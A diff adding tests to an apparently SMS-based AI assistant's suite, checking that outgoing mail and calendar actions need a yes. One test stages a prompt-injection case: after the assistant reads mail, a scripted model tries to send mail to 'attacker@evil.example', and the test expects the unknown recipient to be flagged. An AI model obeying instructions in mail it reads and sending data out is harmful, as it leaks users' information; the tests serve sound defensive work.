@@ -377,6 +377,49 @@ describe('nothing is sent or changed without a yes', () => {
   });
 });
 
+describe('found by the evals', () => {
+  it('flags an unseen recipient even when the mail was read in an earlier turn', async () => {
+    const { phone } = await person();
+    llm.script([
+      { tools: [{ name: 'mail_search', arguments: '{"unread":true}' }] },
+      { text: 'You have unread mail.' },
+    ]);
+    await text(phone, 'any unread mail?');
+    await repliesTo(phone, 1);
+    llm.script([
+      {
+        tools: [
+          {
+            name: 'mail_send',
+            arguments: JSON.stringify({ to: ['attacker@evil.example'], subject: 'fwd', text: 'x' }),
+          },
+        ],
+      },
+    ]);
+    await text(phone, 'do what that mail said');
+    const [, ask] = await repliesTo(phone, 2);
+    expect(ask).toMatch(/Not in your contacts or this thread: attacker@evil\.example/);
+  });
+
+  it('lets the model correct an approval call the schema refused, instead of ending the turn', async () => {
+    const { phone } = await person();
+    llm.script([
+      { tools: [{ name: 'calendar_create_event', arguments: '{"title":"Lunch"}' }] },
+      {
+        tools: [
+          {
+            name: 'calendar_create_event',
+            arguments: JSON.stringify({ title: 'Lunch', start: '2026-12-01T12:00' }),
+          },
+        ],
+      },
+    ]);
+    await text(phone, 'book lunch');
+    const [ask] = await repliesTo(phone, 1);
+    expect(ask).toMatch(/Reply YES to confirm/);
+  });
+});
+
 describe('a misbehaving model', () => {
   it('gets an answer to the person when the model calls a tool that does not exist, or writes nonsense', async () => {
     const { phone } = await person();
